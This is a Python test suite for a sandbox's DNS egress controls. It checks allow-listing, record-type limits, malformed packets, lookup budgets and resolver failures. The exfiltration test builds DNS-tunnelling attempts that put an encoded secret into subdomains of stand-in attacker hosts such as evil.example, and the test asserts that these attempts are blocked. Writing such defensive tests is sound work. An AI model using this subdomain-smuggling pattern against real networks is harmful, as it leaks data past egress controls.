# SPDX-License-Identifier: Apache-2.0
"""DNS in a box: answered for allowed names only, with a budget, and never passed on (NW-16, NW-17)."""
import places
import suite

SECRET = "c2VjcmV0LXZhbHVl"
REFUSALS = (3, 5)  # NXDOMAIN, REFUSED


def test_exfiltration(world):
    """NW-16: names that no rule allows are never looked up, whoever is asked and however"""
    box = world.box("web.example", "*.wild.example")
    names = [f"{SECRET}.evil.example", f"{SECRET}.web.example", f"{SECRET}.evil.com", f"wild.example.{SECRET}.evil.example", SECRET]
    servers = ("127.0.0.53", "127.0.0.1", "8.8.8.8", places.WORLD, "10.255.255.53", places.WORLD6, "2001:4860:4860::8888")
    attempts = [{"do": "dns", "name": name, "type": kind, "server": server, "over": over, "wait": 1}
                for name in names for server in servers for kind, over in ((1, "udp"), (16, "tcp"), (28, "udp"))]
    attempts += [{"do": "resolve", "name": name} for name in names]
    attempts += [{"do": "connect", "to": f"{name}:443"} for name in names]
    for what, result in zip(attempts, box.attempt(*attempts, timeout=300)):
        assert result.get("rcode") in REFUSALS or "error" in result or result.get("status", 0) >= 400, (what, result)
        assert result["seconds"] < suite.FAST, (what, result)
    assert not world.net.queries(), world.net.queries()
    assert world.net.carried(SECRET.encode()) == 0
    assert not world.net.sent(), world.net.sent()[:10]


def test_types(world):
    """NW-16: of an allowed name, only its addresses: a text or another type is no way out"""
    box = world.box("web.example")
    for kind in (2, 5, 6, 12, 15, 16, 33, 35, 48, 64, 65, 251, 252, 255, 256, 65280):
        result = box.one(do="dns", name="web.example", type=kind)
        assert result.get("answers", 0) == 0, (kind, result)
    assert {query["type"] for query in world.net.queries()} <= {"A", "AAAA"}, world.net.queries()


def test_answers(world):
    """allowed names have their addresses, over UDP and TCP, also where other servers are asked"""
    box = world.box("web.example", "both.example")
    for server in ("127.0.0.53", "8.8.8.8", "127.0.0.1"):
        for over in ("udp", "tcp"):
            result = box.one(do="dns", name="web.example", server=server, over=over)
            if server == "127.0.0.1" and "error" in result:
                continue  # nothing need be there
            assert result["rcode"] == 0 and result["same"] and result["bytes"].endswith("\x2d\x43\x5a\x0a"), (server, over, result)
    assert box.one(do="resolve", name="both.example")["addresses"] == sorted(places.HOSTS["both.example"])
    assert box.one(do="resolve", name="localhost")["addresses"], "localhost"


def test_malformed(world):
    """questions that are none: silence or an error, and DNS goes on"""
    box = world.box("web.example")
    head = "BB\x01\0\0\x01\0\0\0\0\0\0"
    good = "\x03web\x07example\0\0\x01\0\x01"
    questions = ("", "x", head, head + "\xff" * 300, head + "\xc0\x0c\0\x01\0\x01", head + "\x3fweb", head + "\x03web\x07example\0\0\x01\0\x03",
                 "BB\x81\x80" + head[4:] + good, "BB\x01\0\0\x02" + head[6:] + good * 2, "BB\x28\0" + head[4:] + good, head + "\x0bweb.example\0\0\0\x01\0\x01",
                 head + "\x03w\0b\x07example\0\0\x01\0\x01", "BB\x01\0\xff\xff" + head[6:] + good, "x" * 60000)
    attempts = [{"do": "dns", "bytes": data, "over": over, "wait": 0.3} for data in questions for over in ("udp", "tcp")]
    for what, result in zip(attempts, box.attempt(*attempts, timeout=300)):
        assert "error" in result or result.get("rcode") or not result.get("answers"), (what, result)
        assert len(result.get("bytes", "")) <= max(len(what["bytes"]), 12) + 600, (what, result)
    assert box.one(do="resolve", name="web.example")["addresses"] == ["45.67.90.10"]
    assert set(world.net.asked()) <= {"web.example"}, world.net.asked()


def test_budget(world):
    """NW-17: random labels below an allowed name end when the budget does, with a reason in the log; others go on"""
    running = world.service(egress__lookups=20)
    box, other = world.box("*.wild.example", running=running), world.box("*.wild.example", running=running)
    results = box.attempt(*({"do": "dns", "name": f"{SECRET}{number}.wild.example"} for number in range(60)))
    good = [result for result in results if result.get("rcode") == 0]
    assert 10 <= len(good) <= 21, len(good)
    assert len([name for name in world.net.asked() if name.endswith(".wild.example")]) <= 21, world.net.asked()
    box.logged(reason="too_many_lookups")
    assert other.one(do="resolve", name="fresh.wild.example").get("addresses"), "the other box has a budget of its own"
    assert box.one(do="dns", name=f"{SECRET}0.wild.example")["rcode"] == 0, "what is known costs nothing"
    world.end_service(egress__lookups=20)


def test_long_names(world):
    """NW-17: names as long as they may be work, longer ones are refused"""
    box = world.box("*.wild.example")
    longest = ".".join(["a" * 63] * 3) + "." + "b" * (253 - 3 * 64 - len(".wild.example")) + ".wild.example"
    assert len(longest) == 253
    assert box.one(do="dns", name=longest)["rcode"] == 0
    assert box.one(do="connect", to=f"b{longest}:443")["status"] in (400, 403)
    assert box.one(do="connect", to=f"{'a' * 64}.wild.example:443")["status"] in (400, 403)


def test_resolver_fails(world):
    """a resolver that fails, lies or says nothing: a reason within seconds, and the next name works"""
    world.net.records({"bad1.wild.example": {"mode": "servfail"}, "bad2.wild.example": {"mode": "silent"}, "bad3.wild.example": {"mode": "garbage"},
                       "bad4.wild.example": {"mode": "refused"}, "bad5.wild.example": {"mode": "nxdomain"}, "bad6.wild.example": {},
                       "cut.wild.example": {"A": ["45.67.90.75"], "mode": "truncated"}, "slow.wild.example": {"A": ["45.67.90.76"], "mode": 1.0},
                       "loop1.wild.example": {"CNAME": "loop2.wild.example"}, "loop2.wild.example": {"CNAME": "loop1.wild.example"}})
    box = world.box("*.wild.example", "web.example")
    for name in ("bad1", "bad2", "bad3", "bad4", "bad5", "bad6", "loop1"):
        result = box.one(do="connect", to=f"{name}.wild.example:443", wait=20)
        assert result["status"] in (502, 504) and result["reason"] in ("resolve_failed", "no_address", "timeout"), (name, result)
        assert result["seconds"] < 15, (name, result)
    for name in ("cut", "slow"):
        result = box.one(do="connect", to=f"{name}.wild.example:80", send=f"GET /hello HTTP/1.1\r\nHost: {name}.wild.example\r\nConnection: close\r\n\r\n")
        assert "hello from" in result.get("data", ""), (name, result)
    assert box.one(do="connect", to="web.example:443", wait=1)["status"] == 200


def test_one_slow_name(world):
    """a name that takes seconds keeps no other waiting"""
    world.net.records({"slow.wild.example": {"mode": "silent"}})
    box = world.box("*.wild.example", "web.example")
    with box.start("for i in $(seq 50); do getent hosts slow.wild.example & done; wait", timeout=30):
        for _ in range(5):
            result = box.one(do="connect", to="web.example:443", hello={"names": ["web.example"]}, limit=1)
            assert result["data"] == "\x16" and result["seconds"] < suite.FAST, result
